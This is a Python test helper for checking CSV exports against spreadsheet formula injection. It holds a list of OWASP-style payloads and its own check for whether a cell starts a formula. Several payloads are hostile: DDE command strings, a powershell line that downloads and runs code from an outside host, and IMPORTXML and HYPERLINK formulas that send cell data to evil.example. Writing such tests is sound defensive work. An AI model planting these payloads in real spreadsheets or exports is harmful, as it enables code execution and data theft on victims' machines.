"""Spreadsheet formula payloads (OWASP "CSV Injection" and its variants) and what a
spreadsheet would make of a cell: shared by the CSV tests of the helper and the extension.

The test of a cell is written here independently of ``oahelper.audit.csvcell``: a
cell is a formula when, past the characters an application may drop first, it starts
with = + - @ or a character NFKC folds into text starting with one (or U+2212), or
when it starts with a tab or a line break at all (OWASP). A spreadsheet may also
start a cell after any ``;`` (a ``;`` locale), tab or line break inside ours, so each
such piece is tested too.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from functools import cache

PAYLOADS = (
    # OWASP's examples: DDE, links, arithmetic, each first character.
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=HYPERLINK(\"https://evil.example/x\",\"Open the PDF\")",
    '=IMPORTXML(CONCAT("https://evil.example/?v=", A1), "//a")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1+1)",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    # Tab, CR, LF first; spaces or invisible characters before the trigger.
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain words after a tab",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    '"=1+1',
    # Full-width and other forms spreadsheets (or NFKC) fold into = + - @.
    "\uff1d1+1",
    "\uff0bSUM(1)",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u207c1+1",
    "\u22121+1",
    # A formula after a separator a spreadsheet may split on.
    "a;=1",
    "=1+1;=2",
    "a; =1",
    "a;\t=1",
    "a\t-1",
    "a\r\n+1",
    'x;"=1',
    "x,=1",
    # Numbers as text: a reading list's title "-1" is text, and guarded.
    "-1",
    "+1",
    "=1",
)
# Unicode's own word, for the test's own copy of the rule.
_TRIGGER_FORMS = "=+-@"


@cache
def _is_trigger(char: str) -> bool:
    folded = unicodedata.normalize("NFKC", char)
    return char == "\u2212" or (folded[:1] in _TRIGGER_FORMS and folded != "")


def _dropped(char: str) -> bool:
    """Could an application drop this before reading the cell?"""
    return char == '"' or char.isspace() or (
        ord(char) < 0x10000 and unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp"))


def starts_formula(text: str, *, whole_cell: bool = True) -> bool:
    """Would a spreadsheet read ``text`` (a cell, or a piece of one) as a formula?"""
    if whole_cell and text[:1] in ("\t", "\r", "\n"):
        return True
    for char in text:
        if not _dropped(char):
            return _is_trigger(char)
    return False


def pieces(cell: str) -> list[str]:
    """The cells a spreadsheet splitting on ; tab or line breaks makes of one of ours."""
    return re.split(r"[;\t\r\n]", cell)[1:]


def formula_cells(cells: list[str], *, whole_cells: bool = True) -> list[str]:
    """The cells (or pieces of them) a spreadsheet would read as a formula."""
    return [c for c in cells if starts_formula(c, whole_cell=whole_cells)
            or any(starts_formula(p, whole_cell=False) for p in pieces(c))]


def parsed(text: str, delimiter: str = ",") -> list[list[str]]:
    """The file's cells as a reader with this separator sees them."""
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


def unsafe_cells(text: str, numbers: frozenset[str] = frozenset()) -> list[str]:
    """Every cell of a CSV file that a spreadsheet would run as a formula: read with
    commas (a bare number in a ``numbers`` column is a number), and with ``;`` and
    tabs as the separator, as other locales and readers split it."""
    rows = parsed(text)
    skip = {i for i, name in enumerate(rows[0]) if name in numbers} if rows else set()
    found = [c for row in rows for c in formula_cells([c for i, c in enumerate(row) if i not in skip])]
    for delimiter in (";", "\t"):
        for row in parsed(text, delimiter):
            found += formula_cells(row, whole_cells=False)
    return found
